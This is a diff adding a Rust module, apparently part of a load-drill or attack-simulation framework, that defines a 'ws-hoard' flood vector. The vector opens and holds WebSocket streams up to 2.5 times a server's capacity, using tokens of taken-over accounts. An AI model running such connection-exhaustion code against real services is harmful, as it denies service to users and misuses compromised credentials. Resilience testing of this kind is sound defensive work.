@@ -1,0 +1,48 @@
+//! `ws-hoard`: WebSocket streams opened and held, with tokens of accounts that were taken over
+
+use std::sync::Arc;
+
+use crate::{
+    chance::Chance,
+    target::Source,
+    vectors::{Family, Front, Resource, Vector, flood::with, hoard::hoard},
+    wire::Wire,
+};
+
+pub(super) const VECTOR: Vector = Vector {
+    name: "ws-hoard",
+    family: Family::Floods,
+    models: "WebSocket streams opened and held, with tokens of accounts that were taken over",
+    source: "OWASP WebSocket security cheat sheet: connections without a bound for each user",
+    parameters: "as many as 2.5 times the seats of the server; each reads what comes; a lost one \
+        comes back",
+    resource: Resource::Seats { times: 2.5 },
+    attack: |front| Box::pin(hoard(front, hold)),
+};
+
+async fn hold(front: Arc<Front>, source: Source, lot: u64) {
+    let Ok(stream) = front.secure(source).await else { return };
+    let mut chance = Chance::new(lot);
+    let token = chance.one(&front.scene.taken).map(|taken| taken.token.clone());
+    let bearer = format!("Bearer {}", token.unwrap_or_default());
+    let fields = [
+        ("Authorization", bearer.as_str()),
+        ("Connection", "Upgrade"),
+        ("Upgrade", "websocket"),
+        ("Sec-WebSocket-Version", "13"),
+        ("Sec-WebSocket-Key", "ZHJpbGwgb2YgZnVsbWFyIQ=="),
+    ];
+    let mut wire = Wire::new(stream);
+    let request = with(&front, "GET", "/api/v1/streaming?stream=user", &fields, &[]);
+    if wire.send(&request).await.is_err() {
+        return;
+    }
+    let Ok(answer) = wire.head().await else { return };
+    if matches!(answer.status, 101 | 200) {
+        let _held = front.ledger.hold();
+        front.ledger.served.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        wire.drain().await;
+    } else {
+        front.ledger.answered(&answer);
+    }
+}
